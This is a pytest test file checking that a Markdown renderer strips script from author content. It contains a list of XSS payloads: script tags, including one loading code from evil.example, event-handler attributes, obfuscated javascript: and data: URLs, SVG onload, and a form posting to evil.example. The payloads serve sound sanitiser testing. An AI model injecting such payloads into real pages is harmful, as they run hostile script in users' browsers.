"""Author Markdown is rendered to HTML that cannot run script, whatever the source holds."""

import re
from html.parser import HTMLParser

import pytest

from ancrage.catalog.markdown import render_markdown

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<iframe src="https://evil.example"></iframe>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![pic](https://tracker.example/pixel.png)",
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<object data=x.swf></object><embed src=x.swf>",
    '<form action="https://evil.example"><input name=q></form>',
]

SAFE_TAGS = {"p", "strong", "em", "a", "code", "ul", "ol", "li", "blockquote", "br", "del", "s"}


pytestmark = pytest.mark.usefixtures("english")


class _Elements(HTMLParser):
    """Every element and attribute of the output, as a browser would parse them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def elements(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Elements()
    parser.feed(html)
    return parser.found


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payloads_come_out_inert(payload: str) -> None:
    html = render_markdown(f"Avant {payload} après")
    for tag, attrs in elements(html):
        assert tag in SAFE_TAGS, html
        for name, value in attrs:
            assert name in {"href", "rel", "title"}, html
            if name == "href":
                assert re.match(r"(https?:|mailto:)", value or ""), html
    assert "Avant" in html
    assert "après" in html


def test_raw_html_is_shown_as_text_not_dropped() -> None:
    assert render_markdown("<b>gras</b>") == "<p>&lt;b&gt;gras&lt;/b&gt;</p>\n"


def test_ordinary_markdown_renders_with_safe_links() -> None:
    html = render_markdown(
        "Un **mot**, une *idée* et [un lien](https://example.org).\n\n- un\n- deux"
    )
    assert "<strong>mot</strong>" in html
    assert "<em>idée</em>" in html
    assert '<a href="https://example.org" rel="noopener noreferrer">un lien</a>' in html
    assert "<ul>\n<li>un</li>\n<li>deux</li>\n</ul>" in html


def test_headings_are_shifted_below_the_card_title() -> None:
    assert render_markdown("# Titre\n\n###### Petit") == "<h3>Titre</h3>\n<h6>Petit</h6>\n"


def test_tables_render_without_inline_styles() -> None:
    html = render_markdown("| a | b |\n|--:|:-:|\n| 1 | 2 |")
    assert "<table>" in html
    assert "<td>1</td>" in html
    assert "style" not in html
